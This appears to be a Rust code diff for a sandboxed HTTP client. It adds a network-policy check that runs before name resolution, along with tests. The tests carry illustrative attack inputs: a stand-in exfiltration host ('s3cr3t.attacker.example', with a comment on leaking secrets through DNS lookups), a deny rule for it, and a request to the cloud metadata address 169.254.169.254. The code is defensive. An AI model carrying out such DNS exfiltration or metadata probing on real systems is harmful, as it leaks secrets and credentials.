@@ -70,6 +70,7 @@ where
     let (host, port) = destination(request.uri()).ok_or(Error::HttpRequestUriInvalid)?;
     let host = host.to_string();
     let tls = request.uri().scheme() == Some(&http::uri::Scheme::HTTPS);
+    permitted_before_lookup(&network, &host, port)?;
     let addresses = resolve(host.clone(), port)
         .await
         .map_err(|_| Error::DestinationNotFound)?;
@@ -152,6 +153,23 @@ where
         })
     });
     Ok((response, drive))
+}
+
+/// What the policy decides from the request alone, before a name reaches any resolver: the
+/// same switches as `wasi:sockets` (HTTP is TCP; a name needs name lookup), the hostname
+/// rules, and whether any address may be reached at all. An IP literal is checked against
+/// the address rules here too, so that it is never "resolved".
+fn permitted_before_lookup(network: &NetworkConfig, host: &str, port: u16) -> Result<(), Error> {
+    let literal = host.parse::<std::net::IpAddr>().ok();
+    if !network.tcp || !network.reaches_anything() || !network.permits_host(host, port) {
+        return Err(Error::HttpRequestDenied);
+    }
+    match literal {
+        Some(address) if !network.permits(address) => Err(Error::DestinationIpProhibited),
+        Some(_) => Ok(()),
+        None if !network.ip_name_lookup => Err(Error::HttpRequestDenied),
+        None => Ok(()),
+    }
 }
 
 trait Stream: AsyncRead + AsyncWrite + Send + Unpin {}
@@ -328,6 +346,108 @@ mod tests {
         tokio::spawn(Box::into_pin(drive));
         let body = response.into_body().collect().await.unwrap().to_bytes();
         assert_eq!(&body[..], b"checked");
+    }
+
+    /// A resolver stand-in that records every name it is asked for and answers loopback.
+    fn recording_resolver(
+        asked: &Arc<std::sync::Mutex<Vec<String>>>,
+    ) -> impl FnOnce(String, u16) -> std::future::Ready<std::io::Result<Vec<SocketAddr>>> {
+        let asked = Arc::clone(asked);
+        move |host: String, port: u16| {
+            asked.lock().unwrap().push(host);
+            std::future::ready(Ok(vec![SocketAddr::from(([127, 0, 0, 1], port))]))
+        }
+    }
+
+    /// A name the policy refuses never reaches the resolver: the lookup itself would carry
+    /// it out of the node (`<secret>.attacker.example`).
+    #[tokio::test]
+    async fn a_refused_name_is_never_looked_up() {
+        let refusing = [
+            (
+                "no address allowed",
+                NetworkConfig {
+                    allow: vec![],
+                    ..NetworkConfig::default()
+                },
+            ),
+            (
+                "tcp off",
+                NetworkConfig {
+                    tcp: false,
+                    ..NetworkConfig::default()
+                },
+            ),
+            (
+                "name lookup off",
+                NetworkConfig {
+                    ip_name_lookup: false,
+                    ..NetworkConfig::default()
+                },
+            ),
+            (
+                "a denied name",
+                NetworkConfig {
+                    deny_hosts: vec!["*.attacker.example".parse().unwrap()],
+                    ..NetworkConfig::default()
+                },
+            ),
+            (
+                "a name not allowed",
+                NetworkConfig {
+                    allow_hosts: vec!["api.example.com:443".parse().unwrap()],
+                    ..NetworkConfig::default()
+                },
+            ),
+        ];
+        for (why, network) in refusing {
+            let asked = Arc::new(std::sync::Mutex::new(Vec::new()));
+            let refused = send_checked(
+                get("http://s3cr3t.attacker.example/"),
+                None,
+                Arc::new(network),
+                recording_resolver(&asked),
+            )
+            .await;
+            assert!(matches!(refused, Err(Error::HttpRequestDenied)), "{why}");
+            assert!(
+                asked.lock().unwrap().is_empty(),
+                "{why}: looked up {asked:?}"
+            );
+        }
+        // An allowed name is looked up, once.
+        let asked = Arc::new(std::sync::Mutex::new(Vec::new()));
+        let server = serve_once("allowed").await;
+        let allowed = NetworkConfig {
+            allow_hosts: vec![format!("*.example.com:{}", server.port()).parse().unwrap()],
+            ..(*loopback_only()).clone()
+        };
+        let (response, drive) = send_checked(
+            get(&format!("http://api.example.com:{}/", server.port())),
+            None,
+            Arc::new(allowed),
+            recording_resolver(&asked),
+        )
+        .await
+        .unwrap();
+        tokio::spawn(Box::into_pin(drive));
+        assert_eq!(response.status(), 200);
+        assert_eq!(*asked.lock().unwrap(), vec!["api.example.com".to_string()]);
+    }
+
+    /// An IP literal meets the address rules before anything else: never "resolved".
+    #[tokio::test]
+    async fn a_forbidden_ip_literal_is_refused_without_a_lookup() {
+        let asked = Arc::new(std::sync::Mutex::new(Vec::new()));
+        let refused = send_checked(
+            get("http://169.254.169.254/latest/meta-data/"),
+            None,
+            loopback_only(),
+            recording_resolver(&asked),
+        )
+        .await;
+        assert!(matches!(refused, Err(Error::DestinationIpProhibited)));
+        assert!(asked.lock().unwrap().is_empty());
     }
 
     #[tokio::test]
